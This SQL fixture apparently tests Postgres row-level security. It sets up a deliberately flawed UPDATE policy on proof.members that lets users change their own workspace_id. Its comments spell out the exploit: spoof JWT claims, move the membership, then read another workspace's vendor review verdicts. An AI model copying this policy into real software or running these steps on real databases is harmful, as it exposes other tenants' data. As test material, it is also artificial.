-- A user moves its own membership to another workspace, as the policy for the display name lets every
-- column change.
-- about: members, vendor_reviews
-- as: hf_proofroom_app
-- exploit: SET request.jwt.claims = '{"sub": "a1111111-0000-4000-8000-0000000000aa"}';
-- exploit: UPDATE proof.members SET workspace_id = 'b2222222-0000-4000-8000-000000000002';
-- exploit: SELECT verdict FROM proof.vendor_reviews;
-- shows: Road-secret verdict
GRANT UPDATE ON proof.members TO hf_proofroom_app;
DROP POLICY "Members use members" ON proof.members;
CREATE POLICY "Members see members" ON proof.members FOR SELECT TO hf_proofroom_app
  USING (workspace_id IN (SELECT proof.my_workspaces()));
CREATE POLICY "Users edit themselves" ON proof.members FOR UPDATE TO hf_proofroom_app
  USING (user_id = proof.uid()) WITH CHECK (user_id = proof.uid());
